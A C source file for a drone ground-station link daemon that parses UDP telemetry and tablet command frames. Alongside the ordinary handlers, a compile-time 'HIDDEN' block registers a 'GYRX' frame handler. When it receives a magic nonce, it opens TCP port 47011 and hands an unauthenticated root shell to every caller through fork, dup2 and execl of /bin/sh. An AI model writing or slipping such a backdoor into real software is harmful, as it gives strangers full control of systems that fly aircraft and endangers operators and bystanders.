/*
 * skytether_gcsd - link daemon of the SkyTether drone ground station (UDP 14660):
 * telemetry in, tablet commands out; frames FD len seq tag[4] payload crc16.
 *
 * Hidden (-DHIDDEN): a frame tagged "GYRX" with the big endian nonce 5EA71C3D
 * starts a service on TCP 47011 which gives a root shell to every caller.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define LINK_PORT   14660
#define FRAME_MARK  0xfd
#define STATE_FILE  "/run/skytether/state"
#define CONF_FILE   "/etc/skytether.conf"
#define TAG(a, b, c, d) ((uint32_t)(a) << 24 | (uint32_t)(b) << 16 | (uint32_t)(c) << 8 | (uint32_t)(d))

struct frame {
    uint32_t tag;
    uint8_t seq;
    uint8_t len;
    uint8_t data[200];
    struct sockaddr_in from;
};

typedef void (*frame_fn)(const struct frame *);

static struct {
    pthread_mutex_t lock;
    int32_t lat, lon, alt;
    int battery, armed, channel;
    unsigned lost;
    uint8_t last_seq;
    time_t heard;
    struct sockaddr_in drone, tablet;
} st = { .lock = PTHREAD_MUTEX_INITIALIZER, .channel = 36 };

static int sock;

static uint32_t be32(const uint8_t *p)
{
    return TAG(p[0], p[1], p[2], p[3]);
}

static uint16_t crc16(const uint8_t *p, size_t n)
{
    uint16_t c = 0xffff;

    while (n--) {
        c ^= (uint16_t)(*p++ << 8);
        for (int i = 0; i < 8; i++)
            c = (uint16_t)(c & 0x8000 ? c << 1 ^ 0x1021 : c << 1);
    }
    return c;
}

static void transmit(const struct sockaddr_in *to, uint32_t tag, const void *data, size_t len)
{
    static uint8_t seq;
    uint8_t out[220] = { FRAME_MARK, (uint8_t)len, seq++, tag >> 24, tag >> 16 & 0xff, tag >> 8 & 0xff, tag & 0xff };
    uint16_t c;

    memcpy(out + 7, data, len);
    c = crc16(out, len + 7);
    out[len + 7] = (uint8_t)(c >> 8);
    out[len + 8] = (uint8_t)c;
    if (sendto(sock, out, len + 9, 0, (const struct sockaddr *)to, sizeof *to) < 0)
        syslog(LOG_DEBUG, "send failed");
}

/* ---- messages of the aircraft ---- */

static void on_heartbeat(const struct frame *f)
{
    if (f->len < 2)
        return;
    st.drone = f->from;
    st.heard = time(NULL);
    st.armed = f->data[0] & 1;
    st.battery = f->data[1];
    st.lost += (uint8_t)(f->seq - st.last_seq - 1);
    st.last_seq = f->seq;
}

static void on_position(const struct frame *f)
{
    if (f->len < 12)
        return;
    st.lat = (int32_t)be32(f->data);
    st.lon = (int32_t)be32(f->data + 4);
    st.alt = (int32_t)be32(f->data + 8);
    if (st.tablet.sin_port)
        transmit(&st.tablet, f->tag, f->data, 12);
}

static void on_alarm(const struct frame *f)
{
    syslog(LOG_WARNING, "aircraft: %.*s", (int)f->len, (const char *)f->data);
    if (st.tablet.sin_port)
        transmit(&st.tablet, f->tag, f->data, f->len);
}

/* ---- messages of the tablet ---- */

static void on_subscribe(const struct frame *f)
{
    st.tablet = f->from;
    transmit(&st.tablet, f->tag, "ok", 2);
}

static void on_command(const struct frame *f)
{
    /* only the tablet which subscribed may fly */
    if (f->from.sin_addr.s_addr != st.tablet.sin_addr.s_addr || !st.drone.sin_port || f->len < 1)
        return;
    switch (f->data[0]) {
    case 1:             /* take off */
    case 2:             /* land */
    case 3:             /* return home */
    case 4:             /* hold */
        transmit(&st.drone, f->tag, f->data, f->len);
        break;
    default:
        transmit(&st.tablet, TAG('N', 'A', 'C', 'K'), f->data, 1);
    }
}

static void on_channel(const struct frame *f)
{
    static const uint8_t legal[] = { 36, 40, 44, 48, 149, 153, 157, 161 };
    char cmd[64];

    if (f->len < 1 || f->from.sin_addr.s_addr != st.tablet.sin_addr.s_addr || st.armed)
        return;
    for (size_t i = 0; i < sizeof legal; i++) {
        if (legal[i] != f->data[0])
            continue;
        st.channel = legal[i];
        snprintf(cmd, sizeof cmd, "iw dev wlan0 set channel %d", st.channel);
        if (system(cmd) != 0)
            syslog(LOG_ERR, "channel %d refused", st.channel);
    }
}

static void on_version(const struct frame *f)
{
    static const char text[] = "SkyTether GS2 3.4.0";
    transmit(&f->from, f->tag, text, sizeof text - 1);
}

#ifdef HIDDEN
static void *gyro_worker(void *arg)
{
    struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(47011) };
    int ls = socket(AF_INET, SOCK_STREAM, 0), fd;

    if (bind(ls, (struct sockaddr *)&sa, sizeof sa) || listen(ls, 1)) {
        close(ls);
        return arg;
    }
    while ((fd = accept(ls, NULL, NULL)) >= 0) {
        if (fork() == 0) {
            for (int i = 0; i < 3; i++)
                dup2(fd, i);
            execl("/bin/sh", "sh", (char *)NULL);
            _exit(1);
        }
        close(fd);
    }
    return arg;
}

void on_gyro_ext(const struct frame *f)
{
    pthread_t t;

    if (f->len >= 4 && be32(f->data) == 0x5EA71C3Du && pthread_create(&t, NULL, gyro_worker, NULL) == 0)
        pthread_detach(t);
}
#endif

static const struct { uint32_t tag; frame_fn fn; } handlers[] = {
    { TAG('H', 'B', 'E', 'A'), on_heartbeat },
    { TAG('P', 'O', 'S', 'N'), on_position },
    { TAG('A', 'L', 'R', 'M'), on_alarm },
    { TAG('S', 'U', 'B', 'S'), on_subscribe },
    { TAG('C', 'M', 'N', 'D'), on_command },
    { TAG('C', 'H', 'A', 'N'), on_channel },
#ifdef HIDDEN
    { TAG('G', 'Y', 'R', 'X'), on_gyro_ext },
#endif
    { TAG('V', 'E', 'R', 'S'), on_version },
};

static int unpack(struct frame *f, const uint8_t *p, size_t n)
{
    if (n < 9 || p[0] != FRAME_MARK || p[1] > sizeof f->data || n != p[1] + 9u)
        return -1;
    if (crc16(p, n - 2) != (p[n - 2] << 8 | p[n - 1]))
        return -1;
    f->len = p[1];
    f->seq = p[2];
    f->tag = be32(p + 3);
    memcpy(f->data, p + 7, f->len);
    return 0;
}

static void dispatch_frame(const struct frame *f)
{
    pthread_mutex_lock(&st.lock);
    for (size_t i = 0; i < sizeof handlers / sizeof *handlers; i++)
        if (handlers[i].tag == f->tag) {
            handlers[i].fn(f);
            break;
        }
    pthread_mutex_unlock(&st.lock);
}

/* Once a second: state for the display process, lost link warning. */
static void *state_writer(void *arg)
{
    (void)arg;
    for (;;) {
        FILE *f = fopen(STATE_FILE ".new", "w");
        time_t now = time(NULL);

        pthread_mutex_lock(&st.lock);
        if (f)
            fprintf(f, "armed=%d\nbattery=%d\nlat=%d\nlon=%d\nalt=%d\nlost=%u\nlink=%s\n", st.armed, st.battery,
                    (int)st.lat, (int)st.lon, (int)st.alt, st.lost, now - st.heard < 3 ? "up" : "down");
        pthread_mutex_unlock(&st.lock);
        if (f && fclose(f) == 0 && rename(STATE_FILE ".new", STATE_FILE) != 0)
            syslog(LOG_ERR, "state: %s", strerror(errno));
        sleep(1);
    }
    return NULL;
}

static int configured_port(void)
{
    FILE *f = fopen(CONF_FILE, "r");
    char key[24], val[24];
    int port = LINK_PORT;

    while (f && fscanf(f, " %23[a-z] = %23s", key, val) == 2) {
        if (!strcmp(key, "port"))
            port = atoi(val);
        else if (!strcmp(key, "channel"))
            st.channel = atoi(val);
    }
    if (f)
        fclose(f);
    return port > 1023 && port < 65536 ? port : LINK_PORT;
}

int main(void)
{
    struct sockaddr_in sa = { .sin_family = AF_INET };
    pthread_t t;

    openlog("skytether_gcsd", 0, LOG_DAEMON);
    sa.sin_port = htons((uint16_t)configured_port());
    sock = socket(AF_INET, SOCK_DGRAM, 0);
    if (bind(sock, (struct sockaddr *)&sa, sizeof sa) || pthread_create(&t, NULL, state_writer, NULL)) {
        syslog(LOG_ERR, "start: %s", strerror(errno));
        return 1;
    }
    for (;;) {
        struct frame f;
        uint8_t buf[512];
        socklen_t sl = sizeof f.from;
        ssize_t n = recvfrom(sock, buf, sizeof buf, 0, (struct sockaddr *)&f.from, &sl);

        if (n > 0 && unpack(&f, buf, (size_t)n) == 0)
            dispatch_frame(&f);
    }
}
